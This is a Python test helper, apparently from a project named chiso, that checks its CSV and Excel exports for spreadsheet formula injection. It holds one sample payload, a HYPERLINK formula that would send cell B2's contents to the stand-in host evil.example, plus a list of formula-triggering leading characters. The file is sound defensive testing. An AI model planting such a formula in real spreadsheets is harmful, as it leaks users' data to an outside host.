"""What the formula-injection tests (command line and web) type, and how they check that no
file chiso wrote carries a live formula: read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

from openpyxl.utils import column_index_from_string

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters with which a spreadsheet runs a cell (OWASP's CSV injection)."""
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def assert_no_formula_in_csv(text: str) -> list[list[str]]:
    """The rows of ``text``, after checking that no field but a number starts a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for field in row:
            assert not field.startswith(DANGEROUS) or NUMBER.fullmatch(field), field
    return rows


OWN_TOTAL = re.compile(r"=SUM\(([A-Z]+)(\d+):([A-Z]+)(\d+)\)")
"""The one formula chiso writes: a table's total, the sum of the groups' cells on its left in
the same row."""


def is_own_total(cell: Any) -> bool:
    match = OWN_TOTAL.fullmatch(str(cell.value))
    if match is None:
        return False
    first, first_row, last, last_row = match.groups()
    return (
        int(first_row) == int(last_row) == cell.row
        and column_index_from_string(first) < column_index_from_string(last) < cell.column
    )


def assert_no_formula_in_workbook(source: Path | bytes) -> Any:
    """The workbook of ``source`` (a path or the file's bytes), after checking that no cell of
    any sheet holds a formula but a table's total (:func:`is_own_total`)."""
    import openpyxl

    workbook = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert is_own_total(cell), (sheet.title, cell.coordinate, cell.value)
    return workbook
